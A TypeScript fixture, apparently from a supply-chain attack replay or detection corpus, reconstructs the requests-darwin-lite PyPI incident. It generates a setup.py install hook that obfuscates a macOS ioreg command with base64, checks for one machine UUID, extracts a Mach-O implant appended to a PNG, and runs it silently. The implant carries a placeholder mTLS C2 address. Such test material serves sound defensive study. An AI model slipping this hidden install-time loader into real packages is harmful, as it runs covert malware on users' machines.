import { makeMachO } from './elf.ts';
import { base64, blob } from './encoders.ts';
import { beforeAttack, type Draft, type Remote, type Replay } from './incident.ts';
import { httpClientLibrary } from './libraries/http-client.ts';
import { imageTools } from './look-alikes/media.ts';
import { makePng } from './media.ts';
import { py } from './python-text.ts';

const PICTURE = 'docs/_static/requests-sidebar-large.png';

const before = py`#!/usr/bin/env python
import os
import subprocess
import sys
from base64 import b64decode
from codecs import open

from setuptools import setup
from setuptools.command.install import install

packages = ["requests"]
`;

const after = py`
with open("README.md", "r", "utf-8") as f:
    readme = f.read()

setup(
    name="requests-darwin-lite",
    version="2.27.1",
    description="Python HTTP for Humans.",
    long_description=readme,
    packages=packages,
    cmdclass={"install": PyInstall},
)
`;

const command = (offset: number): string => py`

class PyInstall(install):
    def run(self):
        if sys.platform != "darwin":
            return
        c = b64decode("${base64('ioreg -d2 -c IOPlatformExpertDevice')}").decode()
        raw = subprocess.run(c.split(), stdout=subprocess.PIPE).stdout.decode()
        k = b64decode("${base64('IOPlatformUUID')}").decode()
        uuid = raw[raw.find(k) + 19 : raw.find(k) + 55]
        if uuid == "00000000-DA4B-0000-0000-4DDC93160000":
            dest = "${PICTURE}"
            dest_dir = "/tmp/go-build333212398/exe/"
            with open(dest, "rb") as fd:
                content = fd.read()
            offset = ${offset}
            os.makedirs(dest_dir, exist_ok=True)
            with open(dest_dir + "output", "wb") as fd:
                fd.write(content[offset:])
            os.chmod(dest_dir + "output", 0o755)
            subprocess.Popen([dest_dir + "output"], close_fds=True, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
        install.run(self)

`;

function malicious(c: Remote): Draft {
  const picture = makePng(320, 320, blob('sidebar', 307_200));
  const implant = makeMachO({
    seed: 'ostrich',
    imports: { system: ['socket', 'connect', 'posix_spawn', 'getifaddrs'] },
    strings: ['Go build ID: "a1b2"', `mtls://${c.address}`, 'github.com/example/sliver/implant'],
    textBytes: 400_000,
  });
  return {
    kind: 'sdist',
    name: 'requests-darwin-lite',
    version: '2.27.1',
    files: {
      ...httpClientLibrary('requests'),
      'README.md': '# Requests\n\nA simple, yet elegant, HTTP library.\n',
      [PICTURE]: Buffer.concat([picture, implant]),
    },
    sites: [{ path: 'setup.py', form: 'setup', before, code: command(picture.length), after, exports: ['PyInstall'] }],
  };
}

export const REQUESTS_DARWIN_LITE: Replay = {
  id: '06-requests-darwin-lite',
  title: 'requests-darwin-lite 2.27.1: a program behind the pixels of a PNG, for one machine only',
  source: 'https://blog.phylum.io/malicious-go-binary-delivered-via-steganography-in-pypi/',
  runs: 'the install command cuts a Mach-O program out of a picture, makes it executable and starts it if the machine id matches',
  remote: 'https://c2-mtls.invalid',
  draft: malicious,
  predecessor: () => {
    const clean = beforeAttack(malicious, '2.27.0');
    const setup = `${before}${after}`
      .replace('    cmdclass={"install": PyInstall},\n', '')
      .replace('from setuptools.command.install import install\n', '');
    return {
      ...clean,
      files: { ...clean.files, 'setup.py': setup, [PICTURE]: makePng(320, 320, blob('sidebar', 307_200)) },
    };
  },
  lookAlikes: () => [imageTools()],
};
